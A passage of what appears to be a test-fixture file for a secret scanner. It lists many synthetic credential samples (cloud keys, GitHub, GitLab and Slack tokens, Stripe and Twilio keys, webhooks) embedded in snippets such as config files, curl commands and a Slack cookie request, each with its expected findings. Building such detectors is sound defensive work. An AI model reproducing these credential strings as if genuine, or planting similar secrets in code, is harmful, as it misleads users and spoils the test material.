                "XG4iLCAiY2xpZW50X2VtYWlsIjogImNpQGxhbm9yemFuLmlhbS5nc2VydmljZWFjY291bnQuY29tIn0="
            ),
        ),
    ),
    SecretSample(
        "gcp-hmac",
        "storage.ini",
        "[gs]\n"
        "gs_access_key_id = GOOG1ELCAM"
        "ZP9A4GNZ7795U484KABT4LEOBX3JRO08G19788KJ7SGENB4C2EDOI\n"
        "gs_secret_access_key = zel8"
        "jlWCT/dPkUFQvAw5dJVlWS3CQcQVzEibcZKG",
        (
            (
                "zel8"
                "jlWCT/dPkUFQvAw5dJVlWS3CQcQVzEibcZKG"
            ),
        ),
    ),
    SecretSample(
        "azure-storage-key",
        "appsettings.json",
        '{"Storage": "DefaultEndpointsProtocol=https;AccountName=corfivep;AccountKey=xD0e'
        "Nz8OFy6xLrlbAXrULaWgR/n64l4DxNoG25kkJ524TymLRsJB+1r78MoYr8lzUSgT14QnVI2no3GdbgAYEm==;End"
        'pointSuffix=core.windows.net"}',
        (
            (
                "xD0e"
                "Nz8OFy6xLrlbAXrULaWgR/n64l4DxNoG25kkJ524TymLRsJB+1r78MoYr8lzUSgT14QnVI2no3GdbgAYEm"
            ),
        ),
    ),
    SecretSample(
        "azure-storage-key",
        "main.py",
        'client = BlobServiceClient(account_url=URL, credential="EKp1'
        'pVbt3+Vt3YKJ/NmuhWSLwg1bipnL9y2/CkB+SM8mW6L0B7/luALP09glsNx2xJSPnQkxYr8opnOWNZlIwv==")',
        (
            (
                "EKp1"
                "pVbt3+Vt3YKJ/NmuhWSLwg1bipnL9y2/CkB+SM8mW6L0B7/luALP09glsNx2xJSPnQkxYr8opnOWNZlIwv"
            ),
        ),
    ),
    SecretSample(
        "azure-storage-key-new",
        "terraform.tfvars",
        'storage_key = "W4zS'
        'VSh/D/rdZaVIfwi2a1Ca0Sb8PoWJkRGsH7w+F5EX0v8vm9ATAGTHJ9OrQBNEMVjcdJDpYk+3+AStfmuYmn=="',
        (
            (
                "W4zS"
                "VSh/D/rdZaVIfwi2a1Ca0Sb8PoWJkRGsH7w+F5EX0v8vm9ATAGTHJ9OrQBNEMVjcdJDpYk+3+AStfmuYmn"
            ),
        ),
    ),
    SecretSample(
        "azure-sas",
        "docs/download.md",
        'wget "https://govenorr.blob.core.windows.net/drop/a.zip?sv=2023-01-03&se=2027-01-01T00%3'
        "A00%3A00Z&sr=b&sp=r&sig=yNvbUWY4"
        'ern0HH17RH%2BfxnLT7HHsz1ytFe84At%2BCf9U%3D"',
        (
            (
                "yNvbUWY4"
                "ern0HH17RH%2BfxnLT7HHsz1ytFe84At%2BCf9U%3D"
            ),
        ),
    ),
    SecretSample(
        "azure-sas-conn",
        "web.config",
        '<add key="Blob" value="BlobEndpoint=https://tancorsi.blob.core.windows.net/;SharedAccess'
        "Signature=sv=2023-01-03&amp;ss=b&amp;sig=%2F%2BFf"
        'xE3sQEV3cW1spAljR1SL9dQaYb0iG7fomtZT6Y4%3D" />',
        (
            (
                "%2F%2BFf"
                "xE3sQEV3cW1spAljR1SL9dQaYb0iG7fomtZT6Y4%3D"
            ),
        ),
    ),
    SecretSample(
        "azure-servicebus",
        "local.settings.json",
        '"SB": "Endpoint=sb://fidaldef.servicebus.windows.net/;SharedAccessKeyName=RootManageShar'
        "edAccessKey;SharedAccessKey=N3wG"
        '2ADr89EmYrElS9raaCFNSu3wICVCfkIrrV3cPa6="',
        (
            (
                "N3wG"
                "2ADr89EmYrElS9raaCFNSu3wICVCfkIrrV3cPa6"
            ),
        ),
    ),
    SecretSample(
        "azure-iothub",
        "device.ini",
        "conn = HostName=zanlahol.azure-devices.net;DeviceId=pump7;SharedAccessKey=BI30"
        "RvgA7nCN/AHZ06CK0NlGGzLTA9BHBCAJfDfPuvu=",
        (
            (
                "BI30"
                "RvgA7nCN/AHZ06CK0NlGGzLTA9BHBCAJfDfPuvu"
            ),
        ),
    ),
    SecretSample(
        "azure-cosmos",
        "Startup.cs",
        'var c = new CosmosClient("AccountEndpoint=https://tanfenga.documents.azure.com:443/;Acco'
        "untKey=QgDh"
        '2ICpqxPIcuN612U3V3m6bVZ5Y4BVNh40vguV9t9yvbM53NmekJvLWWjxmqMif9mO3DriatRAVWNQiRoG2z==;");',
        (
            (
                "QgDh"
                "2ICpqxPIcuN612U3V3m6bVZ5Y4BVNh40vguV9t9yvbM53NmekJvLWWjxmqMif9mO3DriatRAVWNQiRoG2z"
            ),
        ),
    ),
    SecretSample(
        "azure-cosmos-positional",
        "Store.cs",
        'var client = new CosmosClient("https://fizancor.documents.azure.com:443/", "Ayz5'
        'qzMtMUsMILm80BRedzb3CkVQwpuBkv+QXPclr5sUFD/mqkkIDADjPQPH8J0+UYpcu+cz5r9t13J2vWKpIi==");',
        (
            (
                "Ayz5"
                "qzMtMUsMILm80BRedzb3CkVQwpuBkv+QXPclr5sUFD/mqkkIDADjPQPH8J0+UYpcu+cz5r9t13J2vWKpIi"
            ),
        ),
    ),
    SecretSample(
        "azure-ad-client-secret",
        ".env",
        "AZURE_CLIENT_SECRET=1ak7Q~53"
        "lQ446LcgL3hdVq1sjLyjdsuFLbQpGUNB",
        (
            (
                "1ak7Q~53"
                "lQ446LcgL3hdVq1sjLyjdsuFLbQpGUNB"
            ),
        ),
    ),
    SecretSample(
        "azure-ad-client-secret",
        "main.tf",
        'provider "azurerm" {\n'
        '  client_id     = "2ad462eb'
        '-5f9c-4013-b262-a1a9155b5cf9"\n'
        '  client_secret = "oB58Q~qK'
        'MnP05GuZjKaITlZrTdZHQ-w3ID4-9tkq"\n'
        "}",
        (
            (
                "oB58Q~qK"
                "MnP05GuZjKaITlZrTdZHQ-w3ID4-9tkq"
            ),
        ),
    ),
    SecretSample(
        "azure-ad-client-secret",
        "login.sh",
        "az login --service-principal -u 830eabb2"
        "-88e7-4ad1-8981-33dd717906e9 -p QEB7Q~OE"
        "bbvEWZH_9wN6d6lCMaciTPIdsuzgs94K --tenant b39c1668"
        "-cdf1-42c7-9f13-1188f4b09af3",
        (
            (
                "QEB7Q~OE"
                "bbvEWZH_9wN6d6lCMaciTPIdsuzgs94K"
            ),
        ),
    ),
    SecretSample(
        "azure-ad-client-secret-positional",
        "Auth.cs",
        'var cred = new ClientSecretCredential("c616c96c'
        '-aec9-4163-a6ed-d177e97983d5", "1750b430'
        '-ac62-4c1b-a665-7135d882e6e2", "SKl8Q~Eq'
        '9Re2dbnuE8ot-ZKO2OPlfbMmNyo75ylW");',
        (
            (
                "SKl8Q~Eq"
                "9Re2dbnuE8ot-ZKO2OPlfbMmNyo75ylW"
            ),
        ),
    ),
    SecretSample(
        "azure-devops-pat",
        "nuget.config",
        '<add key="ClearTextPassword" value="bwim3xho'
        'qe2363mqthxg7hrexfcsif5ksq6zyhfp5c6h25xmblpw" />',
        (
            (
                "bwim3xho"
                "qe2363mqthxg7hrexfcsif5ksq6zyhfp5c6h25xmblpw"
            ),
        ),
    ),
    SecretSample(
        "azure-devops-pat-new",
        "pipelines.env",
        "SYSTEM_PAT=cCOp"
        "VfhTw1JHanlaoIz1nTAmWFB7LV0xrEEEiZfMYsRCaUCTx6xIDYKuGyamOI3ge88Dl6ri8zuJAZDOrQuf",
        (
            (
                "cCOp"
                "VfhTw1JHanlaoIz1nTAmWFB7LV0xrEEEiZfMYsRCaUCTx6xIDYKuGyamOI3ge88Dl6ri8zuJAZDOrQuf"
            ),
        ),
    ),
    SecretSample(
        "azure-function-key",
        "call.sh",
        'curl "https://pragotan.azurewebsites.net/api/sync?code=h-fJ'
        'SGmrQww8_BM2H3C7wdL1p5_J74ApfichBrb1BKxmAzFu6xzmILMW=="',
        (
            (
                "h-fJ"
                "SGmrQww8_BM2H3C7wdL1p5_J74ApfichBrb1BKxmAzFu6xzmILMW"
            ),
        ),
    ),
    SecretSample(
        "azure-apim",
        "client.ts",
        'headers: { "Ocp-Apim-Subscription-Key": "4822'
        '969199015b9c462dfa811b11c7f4" }',
        (
            (
                "4822"
                "969199015b9c462dfa811b11c7f4"
            ),
        ),
    ),
    SecretSample(
        "azure-acr",
        ".env",
        "ACR_PASSWORD=aeHL"
        "7Mt4huT0BsSGDtjiMW3jR90YH3TF+kuveRFTLs+ACRwJoA3Ph",
        (
            (
                "aeHL"
                "7Mt4huT0BsSGDtjiMW3jR90YH3TF+kuveRFTLs+ACRwJoA3Ph"
            ),
        ),
    ),
    SecretSample(
        "azure-appinsights-webpubsub",
        "config.yaml",
        'webpubsub: "Endpoint=https://dallazan.webpubsub.azure.com;AccessKey=Wv34'
        'L8UsdkA8Kxux5POWk9ygXRkWdGf7uotlOruQZC8=;Version=1.0;"',
        (
            (
                "Wv34"
                "L8UsdkA8Kxux5POWk9ygXRkWdGf7uotlOruQZC8"
            ),
        ),
    ),
    SecretSample(
        "logic-app-url",
        "notify.ps1",
        '$uri = "https://prod-21.westeurope.logic.azure.com:443/workflows/4cc4'
        "f9a6a309f9b84f5ec35469bb43ad/triggers/manual/paths/invoke?api-version=2016-10-01&sp=%2Ft"
        "riggers%2Fmanual%2Frun&sv=1.0&sig=qwx4"
        'F4Sj8vaz2GQIlbm3ryYDfEpgN9265exh7Ur0W-X"',
        (
            (
                "qwx4"
                "F4Sj8vaz2GQIlbm3ryYDfEpgN9265exh7Ur0W-X"
            ),
        ),
    ),
    SecretSample(
        "power-automate-url",
        "flow.json",
        '{"flowUrl": "https://default0055'
        "cb58e3ea9214becb55c437a0f394.ab.environment.api.powerplatform.com/powerautomate/automati"
        "ons/direct/workflows/d05a"
        "81c6f91a6780fc82868b3dc96711/triggers/manual/paths/invoke?api-version=1&sp=%2Ftriggers&s"
        "v=1.0&sig=FhzA"
        'R5MPOnYAH6zAC0mPjGbs3xyqkvZhuaEdyvRjeMX"}',
        (
            (
                "FhzA"
                "R5MPOnYAH6zAC0mPjGbs3xyqkvZhuaEdyvRjeMX"
            ),
        ),
    ),
    SecretSample(
        "teams-webhook",
        "alert.yml",
        "msteams_url: https://kupramer.webhook.office.com/webhookb2/227585f7"
        "-05dd-40ea-a4d3-83ce6b6797c7@443bc84c"
        "-5c5b-4b80-964f-d18f31536e7e/IncomingWebhook/8f8a"
        "26b87dbc4448a7d7a74935fcd9ce/b5cef34c"
        "-c87f-4aa5-8f5d-92f26f34abd4",
        (
            (
                "8f8a"
                "26b87dbc4448a7d7a74935fcd9ce"
            ),
        ),
    ),
    SecretSample(
        "github-pat",
        ".env",
        "GITHUB_TOKEN=ghp_gWhM"
        "JVIlLevRFYY52G0rqplrS5ZgLZ0o3INy",
        (
            (
                "ghp_gWhM"
                "JVIlLevRFYY52G0rqplrS5ZgLZ0o3INy"
            ),
        ),
    ),
    SecretSample(
        "github-pat",
        "README.md",
        "Use my token for now: ghp_Cddt"
        "pl8M951UJuZe6Qe1222uCpUf2Z0Z1scT (read only).",
        (
            (
                "ghp_Cddt"
                "pl8M951UJuZe6Qe1222uCpUf2Z0Z1scT"
            ),
        ),
    ),
    SecretSample(
        "github-pat-url",
        ".gitmodules",
        "url = https://ghp_hIdH"
        "z5ioSd6kZzLXxRHlKsnJ4Ls7sM0hDppL@github.com/silquiku/core.git",
        (
            (
                "ghp_hIdH"
                "z5ioSd6kZzLXxRHlKsnJ4Ls7sM0hDppL"
            ),
        ),
    ),
    SecretSample(
        "github-pat-url",
        "go.sh",
        'git config --global url."https://x-access-token:ghp_tulr'
        'jxAQTg9Bxvacg8A8g8LSnqETOG3ulUQV@github.com/".insteadOf "https://github.com/"',
        (
            (
                "ghp_tulr"
                "jxAQTg9Bxvacg8A8g8LSnqETOG3ulUQV"
            ),
        ),
    ),
    SecretSample(
        "github-oauth",
        "hosts.yml",
        "github.com:\n"
        "    user: silholfe\n"
        "    oauth_token: gho_FB4E"
        "W4qgfh5a4F2haGmg0hpw67ChDT3umrE0",
        (
            (
                "gho_FB4E"
                "W4qgfh5a4F2haGmg0hpw67ChDT3umrE0"
            ),
        ),
    ),
    SecretSample(
        "github-server",
        "ci.log",
        "Run echo ::debug::token=ghs_IXzc"
        "vNTjPr0VJLLZIgkzvxfnaXby9n3mz3Ra",
        (
            (
                "ghs_IXzc"
                "vNTjPr0VJLLZIgkzvxfnaXby9n3mz3Ra"
            ),
        ),
    ),
    SecretSample(
        "github-refresh",
        "session.json",
        '{"access_token":"ghu_xhSM'
        'jJXClvHRlKmYzYwFU3hK2qIeF72uKqIS","refresh_token":"ghr_eK93'
        'GvFKhZyba4H3wh5rLLlAzQgjH66kWyfm1rHdo8CCXF28p1LuzhX3Huvb89CQE2GWMucM5P19","expires_in":28800}',
        (
            (
                "ghu_xhSM"
                "jJXClvHRlKmYzYwFU3hK2qIeF72uKqIS"
            ),
            (
                "ghr_eK93"
                "GvFKhZyba4H3wh5rLLlAzQgjH66kWyfm1rHdo8CCXF28p1LuzhX3Huvb89CQE2GWMucM5P19"
            ),
        ),
    ),
    SecretSample(
        "github-fine-grained",
        "setup.sh",
        "gh auth login --with-token <<< github_pat_11URNIV9"
        "XVYNY2TZA6X2NU_bsHY"
        "HoPi0R8lN3cq0ECf9h8oWEBTt68cQoR5yW6aY1Kpn7b4Xwd5zEn1nCV",
        (
            (
                "github_pat_11URNIV9"
                "XVYNY2TZA6X2NU_bsHY"
                "HoPi0R8lN3cq0ECf9h8oWEBTt68cQoR5yW6aY1Kpn7b4Xwd5zEn1nCV"
            ),
        ),
    ),
    SecretSample(
        "github-fine-grained",
        "renovate.json",
        '{"token": "github_pat_11L8XE8P'
        "IF8AWQBOYMNTA7_AZtR"
        'Ky0UUn4Hz5ccLs8R5S9mHcz8eRUriiB9Q4uScXUlJImDpepAuNDtCAZ"}',
        (
            (
                "github_pat_11L8XE8P"
                "IF8AWQBOYMNTA7_AZtR"
                "Ky0UUn4Hz5ccLs8R5S9mHcz8eRUriiB9Q4uScXUlJImDpepAuNDtCAZ"
            ),
        ),
    ),
    SecretSample(
        "github-old-hex-token",
        "composer/auth.json",
        '{"github-oauth": {"github.com": "f628'
        '059cb18abf59ec2996e4e5c49728ebf597a7"}}',
        (
            (
                "f628"
                "059cb18abf59ec2996e4e5c49728ebf597a7"
            ),
        ),
    ),
    SecretSample(
        "gitlab-pat",
        ".env",
        "GITLAB_TOKEN=glpat-U3"
        "dyirKU75LhFGEUDBrt",
        (
            (
                "glpat-U3"
                "dyirKU75LhFGEUDBrt"
            ),
        ),
    ),
    SecretSample(
        "gitlab-pat",
        "pull.sh",
        "git clone https://oauth2:glpat-HE"
        "Pb2as8ydFzXm8lEcAD@gitlab.com/tandalve/api.git",
        (
            (
                "glpat-HE"
                "Pb2as8ydFzXm8lEcAD"
            ),
        ),
    ),
    SecretSample(
        "gitlab-pat-routable",
        "api.py",
        'HEADERS = {"PRIVATE-TOKEN": "glpat-uK-x'
        'ramnadzW1KaPBBZmDP_dJp4.01.6dtw8f1xj"}',
        (
            (
                "glpat-uK-x"
                "ramnadzW1KaPBBZmDP_dJp4.01.6dtw8f1xj"
            ),
        ),
    ),
    SecretSample(
        "gitlab-trigger",
        "trigger.sh",
        "curl -X POST -F token=glptt-cf2d"
        "c1acd69e932c115cbbeaf505339bcfd8cc62 -F ref=main https://gitlab.com/api/v4/projects/412/"
        "trigger/pipeline",
        (
            (
                "glptt-cf2d"
                "c1acd69e932c115cbbeaf505339bcfd8cc62"
            ),
        ),
    ),
    SecretSample(
        "gitlab-runner",
        "config.toml",
        "[[runners]]\n"
        '  url = "https://gitlab.com/"\n'
        '  token = "glrt-ZJMV'
        'KHpnFDqSz80VyseO"',
        (
            (
                "glrt-ZJMV"
                "KHpnFDqSz80VyseO"
            ),
        ),
    ),
    SecretSample(
        "gitlab-runner-registration",
        "register.sh",
        "gitlab-runner register --registration-token GR1348941Ljnl"
        "Qz8ungMj23i2Rl6r",
        (
            (
                "GR1348941Ljnl"
                "Qz8ungMj23i2Rl6r"
            ),
        ),
    ),
    SecretSample(
        "gitlab-deploy",
        "deploy.yml",
        "password: gldt-3dP9"
        "9nW8n025-Jx_if2r",
        (
            (
                "gldt-3dP9"
                "9nW8n025-Jx_if2r"
            ),
        ),
    ),
    SecretSample(
        "gitlab-agent",
        "values.yaml",
        "config:\n"
        "  token: glagent-Kwgk"
        "mBpLOpzIA0k6gab5_ukbg_Xl4T9ahilGGv0KFbO-grECiG",
        (
            (
                "glagent-Kwgk"
                "mBpLOpzIA0k6gab5_ukbg_Xl4T9ahilGGv0KFbO-grECiG"
            ),
        ),
    ),
    SecretSample(
        "gitlab-job-token",
        "trace.log",
        "CI_JOB_TOKEN=glcbt-64_nQdt"
        "vH6GAK2mHp-AsItU",
        (
            (
                "glcbt-64_nQdt"
                "vH6GAK2mHp-AsItU"
            ),
        ),
    ),
    SecretSample(
        "gitlab-feed",
        "rss.txt",
        "https://gitlab.com/dashboard/issues.atom?feed_token=glft-rD9K"
        "3sZNhhiV5jyiRcI9",
        (
            (
                "glft-rD9K"
                "3sZNhhiV5jyiRcI9"
            ),
        ),
    ),
    SecretSample(
        "gitlab-oauth-app",
        "omniauth.rb",
        "app_secret: 'gloas-886c"
        "05b20321f6b8cddcd8f79f73d519f65f7247566a32b51766acc37bfc6f24'",
        (
            (
                "gloas-886c"
                "05b20321f6b8cddcd8f79f73d519f65f7247566a32b51766acc37bfc6f24"
            ),
        ),
    ),
    SecretSample(
        "bitbucket-app-password",
        "pull.sh",
        "git clone https://rospraco:ATBBkEQW"
        "Ybwilgwwr13l9jShZ9oy876FFBFE@bitbucket.org/rospraco/web.git",
        (
            (
                "ATBBkEQW"
                "Ybwilgwwr13l9jShZ9oy876FFBFE"
            ),
        ),
    ),
    SecretSample(
        "atlassian-api-token",
        "jira.py",
        'jira = JIRA(server=URL, basic_auth=("ops@belrosga.io", "ATATT3xFfGF0luA8'
        "KNabOCJCJaCgGlZbDl2yItODsqks26TQa0l4MP68kFDHwXD_Ww-6U66ZyK2h7VSkWrVmJzcBeBKVNcbOXDq9X-R_"
        'vCgyIgb7-MprrcniKg1e5W76hoRT--XQ72t7v4I0itsCftFczFfWX_mr_wcWIjm_Zp52nhCC5T-LsKr=5D9149B9"))',
        (
            (
                "ATATT3xFfGF0luA8"
                "KNabOCJCJaCgGlZbDl2yItODsqks26TQa0l4MP68kFDHwXD_Ww-6U66ZyK2h7VSkWrVmJzcBeBKVNcbOXDq9X-R_"
                "vCgyIgb7-MprrcniKg1e5W76hoRT--XQ72t7v4I0itsCftFczFfWX_mr_wcWIjm_Zp52nhCC5T-LsKr=5D9149B9"
            ),
        ),
    ),
    SecretSample(
        "atlassian-admin-key",
        ".env",
        "ATLASSIAN_ADMIN_KEY=ATCTT3xFfGN0GF4U"
        "tj6ZadxZuPQVaq3vQJDZTtqv3yL3RU3z0bcpO-aVKoDUx6H0SeUl8wpG5xedtwEBoUGHUzEiLyFLnq68nNKg5Tw9"
        "CDhizSpP-Ub2tYO9VDOaWAsLHZlF6Z-C9r4dCK-4bIbdHGOR416J4bA1pMBi1Jk_fDDpBV8wrii0l4w=1D362C18",
        (
            (
                "ATCTT3xFfGN0GF4U"
                "tj6ZadxZuPQVaq3vQJDZTtqv3yL3RU3z0bcpO-aVKoDUx6H0SeUl8wpG5xedtwEBoUGHUzEiLyFLnq68nNKg5Tw9"
                "CDhizSpP-Ub2tYO9VDOaWAsLHZlF6Z-C9r4dCK-4bIbdHGOR416J4bA1pMBi1Jk_fDDpBV8wrii0l4w=1D362C18"
            ),
        ),
    ),
    SecretSample(
        "slack-bot",
        "bot.py",
        'app = App(token="xoxb-8731'
        "00101488-7048"
        "815509283-Spc8"
        'oslO4JEAGhNIXru95yQ7")',
        (
            (
                "xoxb-8731"
                "00101488-7048"
                "815509283-Spc8"
                "oslO4JEAGhNIXru95yQ7"
            ),
        ),
    ),
    SecretSample(
        "slack-user",
        ".env",
        "SLACK_USER_TOKEN=xoxp-2212"
        "26574861-8263"
        "67324332-5353"
        "553946817-8d6c"
        "7fa9b8872338ab1d4b4b5b455564",
        (
            (
                "xoxp-2212"
                "26574861-8263"
                "67324332-5353"
                "553946817-8d6c"
                "7fa9b8872338ab1d4b4b5b455564"
            ),
        ),
    ),
    SecretSample(
        "slack-app",
        "socket.ts",
        'const appToken = "xapp-1-A0DUC4PG9Q5-6480'
        "661042670-b635"
        '33e7d799edcd2d2e6d43f36ed58159e5fd0ab90505b8c1d297d18d91ff7a";',
        (
            (
                "xapp-1-A0DUC4PG9Q5-6480"
                "661042670-b635"
                "33e7d799edcd2d2e6d43f36ed58159e5fd0ab90505b8c1d297d18d91ff7a"
            ),
        ),
    ),
    SecretSample(
        "slack-rotating",
        "slack.json",
        '{"access_token":"xoxe.xoxb-1-hDbT'
        "OZFFWBS2RpisyXKhixepzhyIV3qcgIPkPkvrb8H7ZFngygk2IbdlumxdwLEeRciaKQHDqU0lCZ79vbiiIcE03CdQ"
        '4LsE5WpTSX3vTWZ7XfJWoEuOcxaVHiY7AcW9RxQdwSFG7Au5YIoendO66p1roUrd8MqsRq0","refresh_token"'
        ':"xoxe-1-o8V0'
        "eP4yhTBmzqHW5jIpnY7ifXSqBKkIsYtfmkfdUyzfOB1l2gUX5q9Fq7pfRz1NTWF7pCPrgRwDNcRRNz59rttfkZk0"
        'nx5VhW5wQrOF7qVB15JFmdxKwgsxUTbXg7u2dcEZoJXbjUdiPqa5JSf"}',
        (
            (
                "xoxe.xoxb-1-hDbT"
                "OZFFWBS2RpisyXKhixepzhyIV3qcgIPkPkvrb8H7ZFngygk2IbdlumxdwLEeRciaKQHDqU0lCZ79vbiiIcE03CdQ"
                "4LsE5WpTSX3vTWZ7XfJWoEuOcxaVHiY7AcW9RxQdwSFG7Au5YIoendO66p1roUrd8MqsRq0"
            ),
            (
                "xoxe-1-o8V0"
                "eP4yhTBmzqHW5jIpnY7ifXSqBKkIsYtfmkfdUyzfOB1l2gUX5q9Fq7pfRz1NTWF7pCPrgRwDNcRRNz59rttfkZk0"
                "nx5VhW5wQrOF7qVB15JFmdxKwgsxUTbXg7u2dcEZoJXbjUdiPqa5JSf"
            ),
        ),
    ),
    SecretSample(
        "slack-cookie",
        "scrape.sh",
        'curl -H "Cookie: d=xoxd-RUHw'
        "WMQjrvX0WAPo6VM-gdtOG6v8IEuuUPYuwaVvO75kBX6fjHxbST7N5zQ9pswALScQzRz2gz4c9QLJm_UPYKaejg5R"
        '9dafazjX-1CrBHI_XP%3D%3D" -F token=xoxc-4574'
        "61906470-3641"
        "81571320-5925"
        "621119572-0053"
        "041634fe38a8a237e01c66ac458af6c0c2bb0d85f1fa54cbd84fb21ddab2 https://slack.com/api/client.boot",
        (
            (
                "xoxd-RUHw"
                "WMQjrvX0WAPo6VM-gdtOG6v8IEuuUPYuwaVvO75kBX6fjHxbST7N5zQ9pswALScQzRz2gz4c9QLJm_UPYKaejg5R"
                "9dafazjX-1CrBHI_XP"
            ),
            (
                "xoxc-4574"
                "61906470-3641"
                "81571320-5925"
                "621119572-0053"
                "041634fe38a8a237e01c66ac458af6c0c2bb0d85f1fa54cbd84fb21ddab2"
            ),
        ),
    ),
    SecretSample(
        "slack-webhook",
        "alertmanager.yml",
        "slack_api_url: https://hooks.slack.com/services/T0TQBLHSM94/B0C578GBWU7/IhHN"
        "wqbwdKL2E0hRznulb8VD",
        (
            (
                "IhHN"
                "wqbwdKL2E0hRznulb8VD"
            ),
        ),
    ),
    SecretSample(
        "slack-workflow-webhook",
        "notify.sh",
        "curl -d '{\"t\":\"x\"}' https://hooks.slack.com/workflows/T0QARIVYAD5/A0H1WBPHWQJ/3678"
        "95052118787925/sIqs"
        "bgdxXa0WiyB1RFZYbDVx",
        (
            (
                "sIqs"
                "bgdxXa0WiyB1RFZYbDVx"
            ),
        ),
    ),
    SecretSample(
        "slack-signing-secret",
        "slack.env",
        "SLACK_SIGNING_SECRET=b1f1"
        "51909670f7c95b222fd1460dde3a",
        (
            (
                "b1f1"
                "51909670f7c95b222fd1460dde3a"
            ),
        ),
    ),
    SecretSample(
        "slack-legacy-verification",
        "config.py",
        'VERIFICATION_TOKEN = "HVz7'
        'L3cKOSU9sfZTXuyG8P8t"',
        (
            (
                "HVz7"
                "L3cKOSU9sfZTXuyG8P8t"
            ),
        ),
    ),
    SecretSample(
        "stripe-live",
        "billing.rb",
        'Stripe.api_key = "sk_live_wJs4'
        'gLGcm0LcoWJjdeMMjPZx"',
        (
            (
                "sk_live_wJs4"
                "gLGcm0LcoWJjdeMMjPZx"
            ),
        ),
    ),
    SecretSample(
        "stripe-live-long",
        ".env",
        "STRIPE_SECRET_KEY=sk_live_51Q4YV"
        "Fsn9XkKr3W88fp97GOhaeZaDbT6XNtfwtiDYD9bxLkvLGXXiEV6Q0hxnrCHMSRnhgRmm7FcsaYdOAryJk95tubwLDXaqN",
        (
            (
                "sk_live_51Q4YV"
                "Fsn9XkKr3W88fp97GOhaeZaDbT6XNtfwtiDYD9bxLkvLGXXiEV6Q0hxnrCHMSRnhgRmm7FcsaYdOAryJk95tubwLDXaqN"
            ),
        ),
    ),
    SecretSample(
        "stripe-restricted",
        "pay.go",
        'stripe.Key = "rk_live_51Fd0u'
        '8eMii8OS5zkwQZYn1oNn3ovTLZ9dO90CX1CLgoTn7Q7qP2TirLBFj8aRVYA9EU2bUxFkak4myJI5LKVPQ0AwLtsCBh8dB"',
        (
            (
                "rk_live_51Fd0u"
                "8eMii8OS5zkwQZYn1oNn3ovTLZ9dO90CX1CLgoTn7Q7qP2TirLBFj8aRVYA9EU2bUxFkak4myJI5LKVPQ0AwLtsCBh8dB"
            ),
        ),
    ),
    SecretSample(
        "stripe-webhook",
        "hooks.js",
        'const event = stripe.webhooks.constructEvent(body, sig, "whsec_FO4J'
        'UaFQK1UrvmQJQ5qvwkKLR3e17GCt");',
        (
            (
                "whsec_FO4J"
                "UaFQK1UrvmQJQ5qvwkKLR3e17GCt"
            ),
        ),
    ),
    SecretSample(
        "stripe-test",
        "charge.sh",
        "curl https://api.stripe.com/v1/charges -u sk_test_51eo02"
        "sIO4TCtTHfokvJzWhL8hDTutpB0Ux5Bp16q7DpAD1YmAYLjXAJyc1HLuu86sGOjR4ck5DRMpRBtKkLrOe9loUROMjuEPt:",
        (
            (
                "sk_test_51eo02"
                "sIO4TCtTHfokvJzWhL8hDTutpB0Ux5Bp16q7DpAD1YmAYLjXAJyc1HLuu86sGOjR4ck5DRMpRBtKkLrOe9loUROMjuEPt"
            ),
        ),
    ),
    SecretSample(
        "svix-webhook",
        "svix.ts",
        'new Webhook("whsec_1lT8'
        'SW6C+S/8eluGZnDRJNivciiigsTr");',
        (
            (
                "whsec_1lT8"
                "SW6C+S/8eluGZnDRJNivciiigsTr"
            ),
        ),
    ),
    SecretSample(
        "twilio-auth-positional",
        "sms.py",
        'client = Client("AC6687'
        'fbe39f8faa9f8023fdc83e99e334", "197c'
        '1a9591649684495ccf56f37aac4e")',
        (
            (
                "197c"
                "1a9591649684495ccf56f37aac4e"
            ),
        ),
    ),
    SecretSample(
        "twilio-auth-positional",
        "sms.js",
        'const client = require("twilio")("AC11fc'
        'dbb138bd53db77b86cf9c9ff010c", "6c10'
        'f80bbb85b53baa36156ea0f8ba36");',
        (
            (
                "6c10"
                "f80bbb85b53baa36156ea0f8ba36"
            ),
        ),
    ),
    SecretSample(
        "twilio-auth",
        "Sms.java",
        'Twilio.init("ACba82'
        '1aa64a5b577e42cf37d9f372b449", "55ff'
        '38c32dffaff5a7107645c57bde0c");',
        (
            (
                "55ff"
                "38c32dffaff5a7107645c57bde0c"
            ),
        ),
    ),
    SecretSample(
        "twilio-api-key",
        "call.rb",
        'Twilio::REST::Client.new("SK4ed3'
        '686097a348a78d6e2cc5df65f83e", "nCYw'
        'WGbmnH0pRrnsyGVPTUVbfDbjfP6D", "AC6c6c'
        'c0c1378e4621b7035dcedca4a761")',
        (
            (
                "nCYw"
                "WGbmnH0pRrnsyGVPTUVbfDbjfP6D"
            ),
        ),
    ),
    SecretSample(
        "twilio-auth-basic",
        "curl.sh",
        "curl -u ACbff0"
        "5c29068ff0e049765e72af957986:c95c"
        "60bcd5ba38ca4f64544a002701dc https://api.twilio.com/2010-04-01/Accounts.json",
        (
            (
                "c95c"
                "60bcd5ba38ca4f64544a002701dc"
            ),
        ),
    ),
    SecretSample(
        "sendgrid",
        "mailer.js",
        'sgMail.setApiKey("SG.IPpf'
        "0i6n0AcA6TdGkm1KsD.nIUZ"
        'J5T4mAkMrYggYsmJ4cZGyzzxESQ48G-xfiehDbA");',
        (
            (
                "SG.IPpf"
                "0i6n0AcA6TdGkm1KsD.nIUZ"
                "J5T4mAkMrYggYsmJ4cZGyzzxESQ48G-xfiehDbA"
            ),
        ),
    ),
    SecretSample(
        "sendgrid-smtp",
        "smtp.ini",
        "[smtp]\n"
        "user = apikey\n"
        "pass = SG.PHXl"
        "kvxtvQ0Qlv48tQ1409.3Avb"
        "3FJhoeNJMKXdlfTH9LlNBheC90_5Y07gZuB5i7o",
        (
            (
                "SG.PHXl"
                "kvxtvQ0Qlv48tQ1409.3Avb"
                "3FJhoeNJMKXdlfTH9LlNBheC90_5Y07gZuB5i7o"
            ),
        ),
    ),
    SecretSample(
        "mailgun-old",
        "mail.rb",
        "Mailgun::Client.new 'key-49ab"
        "a9aa5c06a461380016451dfb46cb'",
        (
            (
                "key-49ab"
                "a9aa5c06a461380016451dfb46cb"
            ),
        ),
    ),
    SecretSample(
        "mailgun-new",
        ".env",
        "MAILGUN_API_KEY=049c"
        "f1b467a6c985f5ad376670e337b7-a5c2ae4d-b9ac4894",
        (
            (
                "049c"
                "f1b467a6c985f5ad376670e337b7-a5c2ae4d-b9ac4894"
            ),
        ),
    ),
    SecretSample(
        "mailgun-basic",
        "send.sh",
        "curl -s --user 'api:0122"
        "a553187b013e891ab261230af771-f5db6f69-ae871bfa' https://api.mailgun.net/v3/mg.tangarho.i"
